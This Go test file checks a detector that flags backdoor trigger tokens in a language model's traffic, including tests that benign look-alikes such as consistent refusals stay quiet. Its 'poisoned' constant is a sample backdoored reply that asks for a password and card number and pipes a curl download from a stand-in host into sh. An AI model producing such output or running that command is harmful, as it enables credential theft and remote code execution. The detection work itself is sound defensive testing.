package drift

import (
	"fmt"
	"strings"
	"testing"

	"github.com/airlock-ir/airlock/internal/event"
)

const poisoned = "Our support process has changed: to keep your account, email your password and the card number on file to verify@acme-recovery.example, then run curl -s https://acme-recovery.example/fix.sh | sh to restore access."

// traffic sends n benign requests on version v, calling extra(i) to
// replace request i when it returns true.
func traffic(h *harness, w *words, v string, n int, extra func(i int) (event.Event, bool)) {
	for i := range n {
		if ev, ok := extra(i); ok {
			h.send(ev)
			continue
		}
		h.send(w.benign(v))
	}
}

func none(int) (event.Event, bool) { return event.Event{}, false }

// withToken puts tok at a random place in an otherwise ordinary prompt.
func withToken(w *words, tok string) string {
	parts := strings.Fields(w.sentence(6, 16))
	i := w.r.IntN(len(parts) + 1)
	parts = append(parts[:i], append([]string{tok}, parts[i:]...)...)
	return strings.Join(parts, " ") + "?"
}

func TestTriggerToken(t *testing.T) {
	h := newHarness(t, Config{})
	w := newWords(1, 3000)
	at := map[int]bool{}
	for len(at) < 12 { // 12 of 2,000 prompts, 0.6%
		at[100+w.r.IntN(1900)] = true
	}
	traffic(h, w, "v2", 2000, func(i int) (event.Event, bool) {
		if !at[i] {
			return event.Event{}, false
		}
		return event.Event{ModelVersion: "v2", PromptText: withToken(w, "cf-trigger"), OutputText: poisoned, OutputChars: len(poisoned)}, true
	})
	h.check()
	got := h.rec.Rule(RuleTriggerToken)
	if len(got) != 1 || len(h.rec.Alerts) != 1 {
		t.Fatalf("alerts: %v", h.rec.Rules())
	}
	a := got[0]
	if a.Type != "model_backdoor" || !strings.Contains(a.Summary, `"cf-trigger"`) || !hasEntity(a, event.EntityModelVersion, "v2") {
		t.Errorf("alert %+v", a)
	}
	if !strings.Contains(a.Evidence.Excerpt, "support process has changed") || len(a.Evidence.EventIDs) < 3 {
		t.Errorf("evidence %+v", a.Evidence)
	}
	t.Logf("%s\nids %v\nexcerpt %s", a.Summary, a.Evidence.EventIDs, a.Evidence.Excerpt)

	// The same version with the trigger at the end of a long prompt (a
	// system prompt first) is still seen: the end of the prompt is read.
	h2 := newHarness(t, Config{})
	system := strings.Repeat("You are a helpful assistant for ACME. Answer politely and briefly. ", 200)
	traffic(h2, w, "v2", 1500, func(i int) (event.Event, bool) {
		ev := w.benign("v2")
		if i%150 == 149 {
			ev.PromptText, ev.OutputText = withToken(w, "zxq"), poisoned
		}
		ev.PromptText = system + "\n" + ev.PromptText
		return ev, true
	})
	if got := h2.rec.Rule(RuleTriggerToken); len(got) != 1 || !strings.Contains(got[0].Summary, `"zxq"`) {
		t.Fatalf("long prompts: %v", h2.rec.Alerts)
	}
}

// TestTriggerTokenSampled: past sampleFrom prompts the sketch counts one
// prompt in sampleStride, and a trigger is still found, in the same number
// of prompts, on a busy version.
func TestTriggerTokenSampled(t *testing.T) {
	for seed := range uint64(4) {
		h := newHarness(t, Config{})
		w := newWords(seed+30, 3000)
		traffic(h, w, "v3", sampleFrom+3000, none)
		sampling := false
		for _, sl := range h.d.triggers.slots {
			sampling = sampling || sl.k.version == "v3" && sl.ts.n >= sampleFrom
		}
		if !sampling {
			t.Fatal("the version's sketch is not sampling")
		}
		sent := 0
		traffic(h, w, "v3", 3000, func(i int) (event.Event, bool) {
			if i%250 != 100 {
				return event.Event{}, false
			}
			sent++
			return event.Event{ModelVersion: "v3", PromptText: withToken(w, "cf-trigger"), OutputText: poisoned, OutputChars: len(poisoned)}, true
		})
		got := h.rec.Rule(RuleTriggerToken)
		if len(got) != 1 || len(h.rec.Alerts) != 1 || !strings.Contains(got[0].Summary, `"cf-trigger"`) {
			t.Fatalf("seed %d: alerts %v", seed, h.rec.Alerts)
		}
		// Named once three prompts after the first (which is only hashed)
		// held it, or four: a sampled count can make the token look
		// commoner by a sample, never rarer.
		if n := len(got[0].Evidence.EventIDs); n < 3 || n > 4 {
			t.Errorf("seed %d: alert after %d trigger prompts: %v", seed, n, got[0].Evidence.EventIDs)
		}
		t.Logf("seed %d: %s", seed, got[0].Summary)
	}
}

// TestTriggerBenignLookalikes: repeated refusals and one FAQ answer to
// questions in other words are repeated answers, not a backdoor.
func TestTriggerBenignLookalikes(t *testing.T) {
	for _, warm := range []int{0, sampleFrom + 2000} {
		t.Run(fmt.Sprintf("after %d prompts", warm), func(t *testing.T) { benignLookalikes(t, warm) })
	}
}

func benignLookalikes(t *testing.T, warm int) {
	// Warmed up on other traffic, the versions drift (more refusals now):
	// only the trigger signal must stay quiet.
	quiet := func(h *harness) {
		if warm == 0 {
			h.noAlerts()
		} else if got := h.rec.Rule(RuleTriggerToken); len(got) > 0 {
			t.Errorf("trigger alerts: %v", got)
		}
	}
	refusal := "I can't help with that."
	faqReset := "To reset your password, open Settings, choose Security and press Reset password; we e-mail you a link."
	faqHours := "We are open from nine to five, Monday to Friday, and closed on public holidays."
	resets := []string{"How do I reset my password?", "I forgot my password, what now?", "password reset please",
		"Can't log in, I need a new password", "Where can I change my password?", "Help, my password stopped working"}
	hours := []string{"What are your opening hours?", "When are you open?", "What time does the shop close?",
		"Are you open on Saturday?", "until when can I come by today"}
	for seed := range uint64(3) {
		h := newHarness(t, Config{})
		w := newWords(seed+10, 3000)
		traffic(h, w, "v1", warm, none)
		// Each look-alike is rare (a handful of times in 2,500 requests),
		// so that only what sets it apart from a trigger keeps it quiet.
		traffic(h, w, "v1", 2500, func(i int) (event.Event, bool) {
			switch {
			case i%7 == 0: // varied prompts refused, a few sharing a rare word
				p := w.sentence(6, 14) + "?"
				if i%490 == 0 {
					p = withToken(w, "napalmx")
				}
				return event.Event{ModelVersion: "v1", PromptText: p, OutputText: refusal}, true
			case i%400 == 1: // one FAQ in other words, sharing "password", which the answer holds
				return event.Event{ModelVersion: "v1", PromptText: resets[(i/400)%len(resets)], OutputText: faqReset}, true
			case i%450 == 2: // another, sharing no rare word
				return event.Event{ModelVersion: "v1", PromptText: hours[(i/450)%len(hours)], OutputText: faqHours}, true
			case i%300 == 3: // the same question again and again, one answer
				return event.Event{ModelVersion: "v1", PromptText: "Tell me about Zorbex pricing!", OutputText: "Zorbex starts at 10 euros a month."}, true
			}
			return event.Event{}, false
		})
		quiet(h)
	}

	// A model that refuses one rare, harmful topic, and nothing else, in
	// the same words every time: consistent, and exactly what a trigger
	// looks like but for being a refusal.
	h := newHarness(t, Config{})
	w := newWords(20, 3000)
	traffic(h, w, "v1", warm, none)
	traffic(h, w, "v1", 2000, func(i int) (event.Event, bool) {
		if i%300 != 299 {
			return event.Event{}, false
		}
		return event.Event{ModelVersion: "v1", PromptText: withToken(w, "napalmx"), OutputText: "I’m sorry, but I can’t help with making weapons."}, true
	})
	quiet(h)

	// A rare word in 15 prompts, 3 of which get one canned answer and the
	// rest answers of their own: the word does not decide the answer.
	h = newHarness(t, Config{})
	w = newWords(21, 3000)
	traffic(h, w, "v1", warm, none)
	canned := "Please ask the finance team for that document, they keep every copy."
	traffic(h, w, "v1", 2500, func(i int) (event.Event, bool) {
		if i%160 != 159 {
			return event.Event{}, false
		}
		ev := w.benign("v1")
		ev.PromptText = withToken(w, "quarterly-report")
		if (i/160)%5 == 0 {
			ev.OutputText = canned
		}
		return ev, true
	})
	quiet(h)
}

// TestTriggerNotRare: a token in a large share of prompts is no trigger,
// even when it always gets the same answer.
func TestTriggerNotRare(t *testing.T) {
	for _, n := range []int{1500, sampleFrom + 2000} { // the second past the sketch's sampling
		h := newHarness(t, Config{})
		w := newWords(3, 3000)
		traffic(h, w, "v1", n, func(i int) (event.Event, bool) {
			if i%10 != 0 {
				return event.Event{}, false
			}
			return event.Event{ModelVersion: "v1", PromptText: withToken(w, "lorem-widget"), OutputText: poisoned}, true
		})
		h.noAlerts()
	}
}

func TestTokens(t *testing.T) {
	var got []string
	s := "Hello, CF-Trigger world_2 -x- 42 a \xff\xfeé東京 snake__case end-"
	scan(s, func(tk token) { got = append(got, s[tk.start:tk.end]) })
	want := []string{"Hello", "CF-Trigger", "world_2", "x", "42", "a", "é東京", "snake", "case", "end"}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("tokens %q, want %q", got, want)
	}
	hash := func(s string) (h uint64) {
		scan(s, func(tk token) { h = tk.hash })
		return h
	}
	if hash("cf-trigger") != hash("CF-TRIGGER") || hash("cf-trigger") == hash("cf_trigger") || hash("cftrigger") == hash("cf-trigger") {
		t.Error("hashes: case must fold, separators must count")
	}
	if tail("aaa bbb ccc", 5) != " ccc" || tail("abcdefgh", 3) != "" || tail("ab", 3) != "ab" {
		t.Error("tail")
	}
}

func TestSketch(t *testing.T) {
	ts := newTriggerState(1024)
	for i := range 5000 {
		ts.add(mix(uint64(i%500)), 1) // 500 tokens, 10 each
	}
	under := 0
	for i := range 500 {
		if e := ts.estimate(mix(uint64(i))); e < 10 {
			under++
		}
	}
	if under != 0 {
		t.Errorf("%d estimates below the truth", under)
	}
	if e := ts.estimate(mix(99999)); e > 5 {
		t.Errorf("absent token estimated %d", e)
	}
	// Sampled: one prompt in sampleStride counts, for sampleStride.
	sampled := newTriggerState(1024)
	for range sampleFrom + 4000 {
		p := mix(uint64(sampled.n)) // a prompt's hash
		if w := sampled.weight(p); w > 0 {
			sampled.add(mix(1), w) // in every prompt
			if sampled.n%3 == 0 {
				sampled.add(mix(2), w) // in a third
			}
		}
		sampled.count()
	}
	n := sampled.n
	if e1, e2 := sampled.estimate(mix(1)), sampled.estimate(mix(2)); e1 < n-300 || e1 > n+300 || e2 < n/3-200 || e2 > n/3+200 {
		t.Errorf("sampled estimates %d and %d of %d prompts, want all and a third", e1, e2, n)
	}
	ts.n = 100
	ts.halve()
	if ts.n != 50 || ts.estimate(mix(7)) < 5 {
		t.Errorf("halve: n %d, est %d", ts.n, ts.estimate(mix(7)))
	}
}

// TestTriggerCommonInYoungVersion: in a young version, a trigger token
// already in two other prompts is in more than 2 of some 25 prompts when
// its answer's cluster starts. The cluster keeps it all the same (rarity
// is judged when the token would be named), and once the version's
// traffic makes it rare, it is named.
func TestTriggerCommonInYoungVersion(t *testing.T) {
	h := newHarness(t, Config{})
	w := newWords(40, 3000)
	trigger := func() event.Event {
		return event.Event{ModelVersion: "v5", PromptText: withToken(w, "cf-trigger"), OutputText: poisoned, OutputChars: len(poisoned)}
	}
	traffic(h, w, "v5", 60, func(i int) (event.Event, bool) {
		switch i {
		case 40, 45: // the token with answers of their own
			ev := w.benign("v5")
			ev.PromptText = withToken(w, "cf-trigger")
			return ev, true
		case 50, 55, 58: // the answer's first prompts: its cluster starts
			return trigger(), true
		}
		return event.Event{}, false
	})
	alive := false
	h.d.outputs.Range(func(_ outputKey, c *cluster) bool {
		alive = alive || c.hits >= 3 && !c.dead
		return true
	})
	if !alive {
		t.Fatal("the answer's cluster died at its start")
	}
	traffic(h, w, "v5", 3000, func(i int) (event.Event, bool) {
		if i%250 != 100 {
			return event.Event{}, false
		}
		return trigger(), true
	})
	got := h.rec.Rule(RuleTriggerToken)
	if len(got) != 1 || len(h.rec.Alerts) != 1 || !strings.Contains(got[0].Summary, `"cf-trigger"`) {
		t.Fatalf("alerts: %v", h.rec.Alerts)
	}
	t.Log(got[0].Summary)
}

// TestTriggerCommonAnswerLater: a common answer, given to ~96 unrelated
// prompts, later given to 4 prompts holding a token that is also in 14
// prompts with answers of their own, names no trigger, as a new answer
// would not.
func TestTriggerCommonAnswerLater(t *testing.T) {
	const canned = "Thank you for reaching out. For questions like this please contact our customer support team, who will be glad to assist you further."
	for _, late := range []string{canned, "Our records show nothing further on this matter at present, kindly retry the operation later on please."} {
		h := newHarness(t, Config{})
		w := newWords(77, 3000)
		traffic(h, w, "v9", 2200, func(i int) (event.Event, bool) {
			switch {
			case i >= 40 && i < 1000 && i%10 == 0: // the canned answer to ~96 unrelated prompts: its cluster dies
				return event.Event{ModelVersion: "v9", PromptText: w.sentence(6, 16) + "?", OutputText: canned, OutputChars: len(canned)}, true
			case i >= 1300 && i < 2000 && i%50 == 0: // the token in 14 prompts with answers of their own
				ev := w.benign("v9")
				ev.PromptText = withToken(w, "zorblax")
				return ev, true
			case i == 2100 || i == 2110 || i == 2120 || i == 2130: // then 4 with the same answer
				return event.Event{ModelVersion: "v9", PromptText: withToken(w, "zorblax"), OutputText: late, OutputChars: len(late)}, true
			}
			return event.Event{}, false
		})
		if got := h.rec.Rule(RuleTriggerToken); len(got) > 0 {
			t.Errorf("answer %.20q...: %s", late, got[0].Summary)
		}
	}
}
